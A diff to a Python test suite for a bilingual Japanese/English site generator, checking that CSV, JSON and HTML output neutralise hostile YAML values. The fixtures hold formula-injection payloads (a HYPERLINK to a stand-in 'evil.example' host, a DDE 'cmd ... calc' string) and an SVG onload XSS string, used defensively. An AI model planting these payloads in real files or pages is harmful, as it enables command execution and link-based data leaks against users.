@@ -358,7 +358,7 @@ def suite_data_formulas(plangen):
         content = fixture_copy(tmp)
         ind = os.path.join(content, "indicators.yaml")
         edit_file(ind, "name: {ja: 出前講座実施件数, en: Outreach lectures held}",
-                  "name: {ja: \"+1件\", en: '=HYPERLINK(\"http://evil.example/?x\",\"click\")'}\n"
+                  "name: {ja: '=HYPERLINK(\"http://evil.example/?x\",\"click\")', en: \"+1 lecture\"}\n"
                   "    name_note: {ja: \"\\t=1+1\", en: \"\\r=1+1\"}")
         edit_file(ind, "description: {ja: 講座を実施した件数, en: Number of lectures held}",
                   "description: {ja: '-x', en: '@SUM(A1:A9)'}\n    note: {ja: 注=1, en: 'a, =b'}")
@@ -375,7 +375,8 @@ def suite_data_formulas(plangen):
         csv_rec = next(x for x in recs if x["id"] == "f-lectures")
         json_rec = next(x for x in jrecs if x["id"] == "f-lectures")
         want = {
-            "name_ja": "+1件", "name_en": '=HYPERLINK("http://evil.example/?x","click")',
+            # (in Japanese: English texts have typographic quotes, a formula's are straight)
+            "name_ja": '=HYPERLINK("http://evil.example/?x","click")', "name_en": "+1 lecture",
             "name_note_ja": "\t=1+1", "name_note_en": "\r=1+1", "description_ja": "-x",
             "description_en": "@SUM(A1:A9)", "policy_ja": "=cmd|' /C calc'!A0", "policy_en": "-2+3",
         }
@@ -506,7 +507,9 @@ def suite_hostile(plangen, self_test=False):
                and '<a href="mailto:info@example.jp">' in text,
                f"hostile: {rel} shows the raw HTML as text and keeps the links", text[-1500:])
         for rel in ("index.html", "en/policy-policy1.html", "indicators.html", "en/1-intro.html"):
-            ok('"&gt;&lt;svg onload=alert(1)&gt;' in page(rel), f"hostile: {rel} shows the markup of YAML texts as text")
+            # (the quote before it is typographic in English: ”)
+            ok(re.search(r'["\u201c\u201d]&gt;&lt;svg onload=alert\(1\)&gt;', page(rel)),
+               f"hostile: {rel} shows the markup of YAML texts as text")
         if not self_test:
             return
         # The check can fail: each page given one live script or outside fetch.
